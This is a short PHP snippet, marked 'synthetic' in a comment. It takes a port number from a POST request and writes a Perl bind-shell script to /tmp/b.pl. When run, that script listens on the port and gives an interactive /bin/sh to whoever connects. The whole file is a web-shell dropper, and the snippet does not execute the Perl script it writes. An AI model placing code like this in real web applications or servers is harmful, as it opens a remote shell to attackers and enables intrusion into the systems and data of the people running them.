<?php
// synthetic: a Perl bind shell kept as text (no shebang) and written to /tmp
$port = (int) $_POST['port'];
$src = "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));bind(S,sockaddr_in($port,INADDR_ANY));listen(S,5);accept(X,S);exec(\"/bin/sh -i\");";
$fp = fopen('/tmp/b.pl', 'w');
fwrite($fp, $src);
